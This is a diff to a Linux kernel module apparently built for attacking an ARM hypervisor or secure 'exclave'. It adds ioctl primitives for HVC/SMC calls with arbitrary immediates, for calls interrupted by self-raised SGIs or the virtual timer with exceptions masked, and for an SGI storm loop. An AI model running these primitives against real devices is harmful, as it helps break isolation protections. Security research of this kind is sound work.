@@ -46,6 +46,26 @@
 #define LPI_CONFIG_ORDER 4 /* 64 KiB: one byte for each of 65,536 - 8,192 LPIs */
 #define SYS_HPPIR1 sys_reg(3, 0, 12, 12, 2)
 
+/* SGI frame of a redistributor, and CPU interface registers (12.11, 12.2). SGIs 14 and 15 are not used by Linux. */
+#define SGI_FRAME 0x10000
+#define GICR_IGROUPR0 0x0080
+#define GICR_ISENABLER0 0x0100
+#define GICR_ICENABLER0 0x0180
+#define GICR_ISPENDR0 0x0200
+#define GICR_ICPENDR0 0x0280
+#define SGI_GROUP1 14
+#define SGI_GROUP0 15
+#define DISTRIBUTOR 0x08000000UL
+#define GICD_CTLR 0x0000
+#define GICD_CTLR_GROUP0 1U
+#define SYS_IAR0 sys_reg(3, 0, 12, 8, 0)
+#define SYS_EOIR0 sys_reg(3, 0, 12, 8, 1)
+#define SYS_SGI1R sys_reg(3, 0, 12, 11, 5)
+#define SYS_IAR1 sys_reg(3, 0, 12, 12, 0)
+#define SYS_EOIR1 sys_reg(3, 0, 12, 12, 1)
+#define SYS_IGRPEN0 sys_reg(3, 0, 12, 12, 6)
+#define NO_INTERRUPT 1023
+
 #define RPC_FOREIGN_INTERRUPT 0xffff0004UL
 #define RETURN_FROM_RPC 0x32000003UL
 
@@ -487,11 +507,49 @@ static void lpi_oracle(struct exclave_attack *attack)
     free_pages((unsigned long)config, LPI_CONFIG_ORDER);
 }
 
+#define CALL_WITH(instruction)                                                                                        \
+    asm volatile(instruction                                                                                          \
+                 : "+r"(x0), "+r"(x1), "+r"(x2), "+r"(x3)                                                             \
+                 :                                                                                                    \
+                 : "x4", "x5", "x6", "x7", "x8", "x9", "x10", "x11", "x12", "x13", "x14", "x15", "x16", "x17", "memory")
+
+/* Calls whose instruction names something else than 0: the immediate is part of the instruction. */
+static void call_with_immediate(struct exclave_attack *attack)
+{
+    register u64 x0 asm("x0") = attack->in[0];
+    register u64 x1 asm("x1") = attack->in[1];
+    register u64 x2 asm("x2") = attack->in[2];
+    register u64 x3 asm("x3") = attack->in[3];
+
+    switch (attack->flags) {
+    case 2:
+        CALL_WITH("hvc #1");
+        break;
+    case 3:
+        CALL_WITH("smc #1");
+        break;
+    case 4:
+        CALL_WITH("hvc #0xffff");
+        break;
+    default:
+        CALL_WITH("smc #0xffff");
+        break;
+    }
+    attack->out[0] = x0;
+    attack->out[1] = x1;
+    attack->out[2] = x2;
+    attack->out[3] = x3;
+}
+
 static void call(struct exclave_attack *attack)
 {
     struct arm_smccc_res result;
     u64 *in = attack->in;
 
+    if (attack->flags > 1) {
+        call_with_immediate(attack);
+        return;
+    }
     if (attack->flags & 1)
         arm_smccc_smc(in[0], in[1], in[2], in[3], in[4], in[5], in[6], in[7], &result);
     else
@@ -531,6 +589,117 @@ static u64 timed_hvc(u64 regs[4], u64 delay)
     regs[2] = x2;
     regs[3] = x3;
     return end - begin;
+}
+
+/* Raises an SGI at this CPU, calls, takes the SGI. All with every exception masked, so that Linux itself takes nothing in between. */
+static void call_with_sgi(struct exclave_attack *attack, u64 regs[4], void __iomem *sgi_frame, void __iomem *distributor)
+{
+    bool fast = attack->in[4] == 1;
+    u32 interrupt = fast ? SGI_GROUP0 : SGI_GROUP1;
+    u32 groups = readl(sgi_frame + GICR_IGROUPR0);
+    u32 control = readl(distributor + GICD_CTLR);
+
+    if (fast) {
+        writel(groups & ~BIT(interrupt), sgi_frame + GICR_IGROUPR0);
+        writel(control | GICD_CTLR_GROUP0, distributor + GICD_CTLR);
+        write_sysreg_s(1, SYS_IGRPEN0);
+    }
+    writel(BIT(interrupt), sgi_frame + GICR_ISENABLER0);
+    writel(BIT(interrupt), sgi_frame + GICR_ISPENDR0);
+    readl(sgi_frame + GICR_ISPENDR0);
+    dsb(sy);
+    isb();
+
+    timed_hvc(regs, 0);
+
+    attack->out[5] = fast ? read_sysreg_s(SYS_IAR0) : read_sysreg_s(SYS_IAR1);
+    dsb(sy);
+    if (attack->out[5] < NO_INTERRUPT - 3) {
+        if (fast)
+            write_sysreg_s(attack->out[5], SYS_EOIR0);
+        else
+            write_sysreg_s(attack->out[5], SYS_EOIR1);
+        isb();
+    }
+    writel(BIT(interrupt), sgi_frame + GICR_ICPENDR0);
+    writel(BIT(interrupt), sgi_frame + GICR_ICENABLER0);
+    if (fast) {
+        write_sysreg_s(0, SYS_IGRPEN0);
+        writel(control, distributor + GICD_CTLR);
+        writel(groups, sgi_frame + GICR_IGROUPR0);
+    }
+    dsb(sy);
+}
+
+/* Lends the virtual timer, which is Linux's tick: what was due meanwhile comes when it is given back. */
+static void call_with_timer(struct exclave_attack *attack, u64 regs[4])
+{
+    u64 control = read_sysreg(cntv_ctl_el0);
+    u64 compare = read_sysreg(cntv_cval_el0);
+    u64 due, now;
+
+    isb();
+    due = read_sysreg(cntvct_el0) + attack->in[5];
+    write_sysreg(due, cntv_cval_el0);
+    write_sysreg(1, cntv_ctl_el0);
+    isb();
+
+    timed_hvc(regs, 0);
+
+    isb();
+    now = read_sysreg(cntvct_el0);
+    attack->out[4] = regs[0] == RPC_FOREIGN_INTERRUPT && now > due ? now - due : 0;
+    write_sysreg(compare, cntv_cval_el0);
+    write_sysreg(control, cntv_ctl_el0);
+    isb();
+}
+
+static void interrupted_call(struct exclave_attack *attack)
+{
+    void __iomem *frame, *sgi_frame = NULL, *distributor = NULL;
+    u64 regs[4];
+    u64 flags;
+
+    memcpy(regs, attack->in, sizeof(regs));
+    migrate_disable();
+    frame = map_own_redistributor();
+    if (frame) {
+        u64 number = (readq(frame + GICR_TYPER) >> 8) & 0xffff;
+
+        sgi_frame = ioremap(REDISTRIBUTOR + number * REDISTRIBUTOR_STRIDE + SGI_FRAME, 0x10000);
+        distributor = ioremap(DISTRIBUTOR, 0x10000);
+    }
+    if (sgi_frame && distributor) {
+        flags = read_sysreg(daif);
+        asm volatile("msr daifset, #15" : : : "memory");
+        if (attack->in[4] == 2)
+            call_with_timer(attack, regs);
+        else
+            call_with_sgi(attack, regs, sgi_frame, distributor);
+        write_sysreg(flags, daif);
+        memcpy(attack->out, regs, sizeof(regs));
+    } else {
+        attack->error = -ENODEV;
+    }
+    if (distributor)
+        iounmap(distributor);
+    if (sgi_frame)
+        iounmap(sgi_frame);
+    if (frame)
+        iounmap(frame);
+    migrate_enable();
+}
+
+static void storm(struct exclave_attack *attack)
+{
+    u64 i;
+
+    for (i = 0; i < attack->in[1] && !fatal_signal_pending(current); i++) {
+        write_sysreg_s(attack->in[0] & 0xffff, SYS_SGI1R);
+        isb();
+        if (!(i & 0xff))
+            cond_resched();
+    }
 }
 
 /*
@@ -676,6 +845,10 @@ static long attack_ioctl(struct file *file, unsigned int command, unsigned long 
         call(&attack);
     else if (attack.kind == EXCLAVE_TIMED_CALL)
         timed_call(&attack);
+    else if (attack.kind == EXCLAVE_INTERRUPTED_CALL)
+        interrupted_call(&attack);
+    else if (attack.kind == EXCLAVE_STORM)
+        storm(&attack);
     else
         run_locked(&attack);
 
